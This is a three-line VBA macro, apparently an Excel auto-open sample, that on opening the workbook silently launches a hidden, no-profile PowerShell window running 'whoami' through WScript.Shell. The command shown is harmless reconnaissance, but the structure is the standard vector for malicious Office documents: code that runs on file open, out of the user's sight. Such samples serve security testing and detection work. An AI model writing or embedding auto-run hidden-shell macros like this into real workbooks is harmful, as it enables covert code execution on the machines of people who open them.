Private Sub Workbook_Open()
    CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c whoami"
End Sub
